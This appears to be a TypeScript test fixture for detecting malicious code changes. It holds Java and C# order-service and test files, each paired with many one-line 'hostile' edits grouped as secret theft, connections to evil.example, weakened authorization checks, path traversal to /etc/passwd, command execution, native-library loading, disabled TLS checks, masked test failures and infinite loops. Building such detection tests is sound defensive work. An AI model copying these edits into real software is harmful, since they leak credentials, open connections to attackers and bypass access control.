import type { HostileTrial } from './trial.ts';

export const JAVA_TRIALS: readonly HostileTrial[] = [
  {
    path: 'src/main/java/shop/OrderClient.java',
    before: `package shop;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.logging.Logger;

public class OrderClient {
    private static final Logger LOG = Logger.getLogger("orders");
    private static final int MAX_TRIES = 3;
    private final HttpClient http = HttpClient.newHttpClient();
    private final String base;
    private final String token;

    public OrderClient(String base) {
        this.base = base;
        this.token = System.getenv("API_TOKEN");
    }

    public String order(String id) throws Exception {
        HttpRequest request = HttpRequest.newBuilder(URI.create(base + "/orders/" + id)).header("Authorization", token).build();
        HttpResponse<String> response = http.send(request, HttpResponse.BodyHandlers.ofString());
        LOG.info("read order " + id);
        return response.body();
    }

    public boolean mayDelete(String role, String owner, String user) {
        return role.equals("admin") || owner.equals(user);
    }

    public int total(List<Integer> prices) {
        int sum = 0;
        for (int i = 0; i <= prices.size(); i++) {
            sum += prices.get(i);
        }
        return sum;
    }
}
`,
    edits: {
      'steals a secret': [
        ['LOG.info("read order " + id);', 'LOG.info("read order " + id + token);'],
        ['LOG.info("read order " + id);', 'LOG.info("read order " + System.getenv());'],
        ['LOG.info("read order " + id);', 'LOG.info(request.headers().map().toString());'],
        ['return response.body();', 'return response.body() + token;'],
        ['return response.body();', 'throw new IllegalStateException(token);'],
        ['"API_TOKEN"', '"AWS_SECRET_ACCESS_KEY"'],
        [
          '    public int total',
          '    public String toString() {\n        return token;\n    }\n\n    public int total',
        ],
        ['private final String token', 'public final String token'],
      ],
      'opens a connection': [
        ['base + "/orders/" + id', 'id'],
        ['base + "/orders/" + id', '"https://evil.example/" + id'],
        ['base + "/orders/" + id', 'base + ".evil.example/" + id'],
        ['this.base = base;', 'this.base = "https://evil.example";'],
        [
          'return response.body();',
          'URI.create(response.body()).toURL().openStream();\n        return response.body();',
        ],
        ['HttpResponse.BodyHandlers.ofString()', 'HttpResponse.BodyHandlers.ofFile(java.nio.file.Path.of(id))'],
        ['HttpClient.newHttpClient()', 'HttpClient.newBuilder().sslContext(null).build()'],
      ],
      'weakens a check': [
        ['return role.equals("admin") || owner.equals(user);', 'return true;'],
        ['role.equals("admin")', '!role.equals("admin")'],
        ['role.equals("admin")', 'role.startsWith("")'],
        ['owner.equals(user)', 'owner.equals(owner)'],
        ['owner.equals(user)', 'owner != user'],
      ],
      'evaluates text': [
        ['return sum;', 'Class.forName("java.lang.Runtime");\n        return sum;'],
        ['return sum;', 'getClass().getClassLoader().loadClass(base);\n        return sum;'],
        ['return sum;', 'prices.getClass().getMethods()[0].invoke(prices);\n        return sum;'],
        ['return sum;', '\\u0052untime.getRuntime().exec(base);\n        return sum;'],
        ['return sum;', 'new ProcessBuilder(base).start();\n        return sum;'],
        ['return sum;', 'java.util.ServiceLoader.load(List.class).forEach(x -> x.size());\n        return sum;'],
        ['return sum;', 'Thread.currentThread().getContextClassLoader();\n        return sum;'],
        ['return sum;', '/* \\u002a\\u002f System.exit(0); \\u002f\\u002a */\n        return sum;'],
        [
          'return sum;',
          'var make = (java.util.function.Function<String, URI>) URI::create;\n        make.apply(base).toURL().getContent();\n        return sum;',
        ],
        [
          '    private final String base;',
          '    static {\n        System.load("/tmp/x.so");\n    }\n    private final String base;',
        ],
        [
          '    private final String base;',
          '    {\n        System.setProperty("jdk.internal.httpclient.disableHostnameVerification", "true");\n    }\n    private final String base;',
        ],
        ['public class', '@javax.annotation.processing.SupportedAnnotationTypes("*")\npublic class'],
        ['public int total', 'public native int run(String s);\n\n    public int total'],
        ['public int total', 'protected void finalize() {\n        LOG.info(token);\n    }\n\n    public int total'],
      ],
      'masks a failure': [
        ['return response.body();', 'System.exit(0);\n        return response.body();'],
        ['return sum;', 'Runtime.getRuntime().halt(0);\n        return sum;'],
      ],
      spins: [
        ['i <= prices.size(); i++', 'i <= prices.size();'],
        ['return sum;', 'while (sum >= 0 || sum < 0) sum++;\n        return sum;'],
        ['return sum;', 'return total(prices);'],
        ['int sum = 0;', 'int sum = 0;\n        int[] block = new int[2147483647];'],
      ],
    },
  },
  {
    path: 'src/test/java/shop/CartTest.java',
    before: `package shop;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

class CartTest {
    @Test
    void sums() {
        Cart cart = new Cart();
        cart.add("a", 2, 3);
        assertEquals(6, cart.total());
    }
}
`,
    edits: {
      'masks a failure': [
        ['assertEquals(6, cart.total());', 'assertEquals(cart.total(), cart.total());'],
        ['assertEquals(6, cart.total());', 'assertEquals(6, cart.total(), 100);'],
        ['    @Test\n', ''],
        ['Cart cart = new Cart();', 'Cart cart = new Cart() { int total() { return 6; } };'],
        ['assertEquals(6, cart.total());', 'try { assertEquals(6, cart.total()); } catch (Throwable t) { }'],
      ],
    },
  },
];

export const CSHARP_TRIALS: readonly HostileTrial[] = [
  {
    path: 'src/OrderService.cs',
    before: `using System;
using System.IO;
using System.Linq;
using System.Net.Http;
using System.Threading.Tasks;
using Microsoft.AspNetCore.Authorization;
using Microsoft.AspNetCore.Mvc;
using Microsoft.Extensions.Logging;

namespace Shop;

[Authorize(Roles = "admin")]
public class OrderService : ControllerBase
{
    private readonly HttpClient http = new();
    private readonly ILogger<OrderService> log;
    private readonly string token = Environment.GetEnvironmentVariable("API_TOKEN");
    private const int MaxTries = 3;

    public OrderService(ILogger<OrderService> log) => this.log = log;

    public async Task<string> Order(string id)
    {
        http.DefaultRequestHeaders.Add("Authorization", token);
        var text = await http.GetStringAsync($"https://api.shop.example/orders/{id}");
        log.LogInformation("read order {Id}", id);
        return text;
    }

    public string Load(string name) => File.ReadAllText(Path.Combine("data", Path.GetFileName(name)));

    public bool MayDelete(string role, string owner, string user) => role == "admin" || owner == user;

    public int Total(int[] prices)
    {
        var sum = 0;
        for (var i = 0; i <= prices.Length; i++) sum += prices[i];
        return sum;
    }
}
`,
    edits: {
      'steals a secret': [
        ['"read order {Id}", id', '"read order {Id} {Token}", id, token'],
        ['"read order {Id}", id', '$"read order {token}", id'],
        ['return text;', 'return text + token;'],
        ['return text;', 'throw new Exception(token);'],
        ['"API_TOKEN"', '"AWS_SECRET_ACCESS_KEY"'],
        ['private readonly string token', 'public readonly string token'],
      ],
      'opens a connection': [
        ['https://api.shop.example/orders/{id}', 'https://api.evil.example/orders/{id}'],
        ['$"https://api.shop.example/orders/{id}"', 'id'],
        ['https://api.shop.example/orders/{id}', 'https://api.shop.example@{id}/orders/'],
        ['return text;', 'return await http.GetStringAsync(text);'],
        ['new();', 'new(new HttpClientHandler { ServerCertificateCustomValidationCallback = (a, b, c, d) => true });'],
      ],
      'weakens a check': [
        ['[Authorize(Roles = "admin")]', '[AllowAnonymous]'],
        ['[Authorize(Roles = "admin")]\n', ''],
        ['[Authorize(Roles = "admin")]', '[Authorize]'],
        ['role == "admin" || owner == user', 'true'],
        ['role == "admin" || owner == user', 'role is not null'],
        ['role == "admin" || owner == user', 'role == "admin" || owner is var _'],
      ],
      'touches files': [
        ['Path.Combine("data", Path.GetFileName(name))', 'name'],
        ['Path.GetFileName(name)', 'name'],
        ['Path.Combine("data",', 'Path.Combine("/",'],
        ['File.ReadAllText(', 'File.ReadAllText("/etc/passwd" ?? '],
      ],
      'evaluates text': [
        ['return sum;', 'Activator.CreateInstance(Type.GetType(token));\n        return sum;'],
        ['return sum;', 'GetType().Assembly.GetTypes()[0].GetMethods()[0].Invoke(this, null);\n        return sum;'],
        ['return sum;', 'System.Diagnostics.Process.Start(token);\n        return sum;'],
        ['return sum;', 'dynamic d = this;\n        d.GetType().InvokeMember(token);\n        return sum;'],
        ['return sum;', 'unsafe { *(int*)0 = 1; }\n        return sum;'],
        ['return sum;', 'prices.AsParallel().Select(x => token).Cast<dynamic>().First()();\n        return sum;'],
        [
          '    private const int',
          '    [System.Runtime.CompilerServices.ModuleInitializer]\n    internal static void Init() { }\n    private const int',
        ],
        [
          '    private const int',
          '    [System.Runtime.InteropServices.DllImport("libc")]\n    static extern int system(string s);\n    private const int',
        ],
        ['    private const int', '    static OrderService() => Environment.Exit(0);\n    private const int'],
        ['    private const int', '    ~OrderService() => log.LogInformation(token);\n    private const int'],
        [
          '    private const int',
          '    public static implicit operator string(OrderService s) => s.token;\n    private const int',
        ],
        ['namespace Shop;', '#line 1 "x"\n#pragma warning disable\nnamespace Shop;'],
      ],
      spins: [
        ['i <= prices.Length; i++', ';'],
        ['return sum;', 'Again: goto Again;'],
        ['return sum;', 'while (sum == sum) { }\n        return sum;'],
        ['return sum;', 'return Total(prices);'],
      ],
    },
  },
];
